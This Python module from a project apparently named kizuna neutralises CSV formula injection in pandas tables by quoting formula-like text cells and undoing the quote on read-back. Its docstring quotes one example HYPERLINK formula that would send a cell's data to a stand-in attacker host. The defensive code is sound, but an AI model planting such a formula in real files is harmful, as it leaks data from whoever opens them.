"""CSV cells a spreadsheet would run as formulas, neutralised (OWASP "CSV injection").

A text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return is a formula to Excel, LibreOffice and Google Sheets: a customer or
item id such as ``=HYPERLINK("http://evil.example?"&A1)`` in a CRM export runs
when a marketer opens the file. :func:`neutralise_formulas` prefixes such
cells with a single quote, which spreadsheets read as "text follows"; numeric
columns (a negative amount) are left alone.

The quote is undone by :func:`restore_formulas`, exactly: a value that already
starts with quotes followed by one of those characters gets one more quote, so
every text value comes back as it was. kizuna applies it where it reads back a
CSV it wrote for people (campaign decisions and outcomes); the files kizuna
only reads back (the event export, the CSV contact log) keep values as they are.
"""

from __future__ import annotations

from collections.abc import Callable
from pathlib import Path

import pandas as pd

#: First characters that make a spreadsheet cell a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"


def _formula_cells(column: pd.Series) -> pd.Series:
    """Where ``column`` holds text that a spreadsheet would run, bool (n,).

    Quotes already in front are skipped, so the prefix stays reversible.
    """
    try:
        starts = column.str.lstrip(QUOTE).str.startswith(FORMULA_STARTS, na=False)
    except AttributeError:  # an object column holding no text at all
        return pd.Series(False, index=column.index)
    return starts.astype(bool)


def _text_columns(frame: pd.DataFrame) -> list[str]:
    return [
        col
        for col in frame.columns
        if pd.api.types.is_object_dtype(frame[col])
        or pd.api.types.is_string_dtype(frame[col])
        or isinstance(frame[col].dtype, pd.CategoricalDtype)
    ]


def neutralise_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """``frame`` with every formula-like text cell prefixed by ``'`` (a copy if any is).

    Only text cells (``str`` values of object, string or categorical columns)
    change; numbers, missing values and other columns are left as they are.

    Parameters
    ----------
    frame
        A table about to be written as text, shape (n_rows, n_columns).

    Returns
    -------
    pandas.DataFrame
        ``frame`` itself when no cell changes.
    """
    return _rewrite(frame, lambda text: QUOTE + text, quoted=False)


def restore_formulas(frame: pd.DataFrame) -> pd.DataFrame:
    """Undo :func:`neutralise_formulas`: drop the ``'`` it put before a formula-like cell.

    Parameters
    ----------
    frame
        A table read back from text, shape (n_rows, n_columns).

    Returns
    -------
    pandas.DataFrame
        ``frame`` itself when no cell changes.
    """
    return _rewrite(frame, lambda text: text.str[1:], quoted=True)


def _rewrite(
    frame: pd.DataFrame, change: Callable[[pd.Series], pd.Series], *, quoted: bool
) -> pd.DataFrame:
    """``frame`` with ``change`` applied to its formula cells (those already quoted, with
    ``quoted``), column by column and vectorised: the CRM export passes every cell here."""
    out = frame
    for col in _text_columns(frame):
        column = frame[col]
        if isinstance(column.dtype, pd.CategoricalDtype):
            # A categorical column becomes text: its categories were the unquoted values.
            column = column.astype(object)
        cells = _formula_cells(column)
        if quoted and cells.any():
            cells &= column.str.startswith(QUOTE, na=False).astype(bool)
        if not cells.any():
            continue
        if out is frame:
            out = frame.copy()
        changed = column.copy()
        changed[cells] = change(column[cells])
        out[col] = changed
    return out


def restored_from(frame: pd.DataFrame, source: Path) -> pd.DataFrame:
    """:func:`restore_formulas` for a table read from a text file (not Parquet).

    kizuna neutralises only its text outputs, so a Parquet value that starts
    with a quote is the value itself.

    Parameters
    ----------
    frame
        The table read, shape (n_rows, n_columns).
    source
        The file or folder it was read from.

    Returns
    -------
    pandas.DataFrame
    """
    if source.is_dir() or source.name.lower().endswith(".parquet"):
        return frame
    return restore_formulas(frame)
